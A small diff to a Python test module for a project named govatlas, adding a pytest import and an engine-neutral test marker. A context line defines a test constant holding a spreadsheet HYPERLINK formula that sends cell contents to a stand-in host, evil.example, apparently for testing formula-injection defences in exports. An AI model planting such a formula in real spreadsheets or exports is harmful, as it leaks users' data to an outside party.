@@ -9,6 +9,7 @@ import io
 import re
 from pathlib import Path
 
+import pytest
 from fastapi.testclient import TestClient
 from sqlalchemy import Engine, select
 from typer.testing import CliRunner
@@ -19,6 +20,8 @@ from govatlas.store.session import transaction
 from govatlas.vocabulary import LabelMethod, ReviewStatus
 from govatlas.web import create_app
 from tests.conftest import FIXTURE_CATALOG
+
+pytestmark = pytest.mark.engine_neutral  # the same on every database engine
 
 runner = CliRunner(env={"COLUMNS": "400"})
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
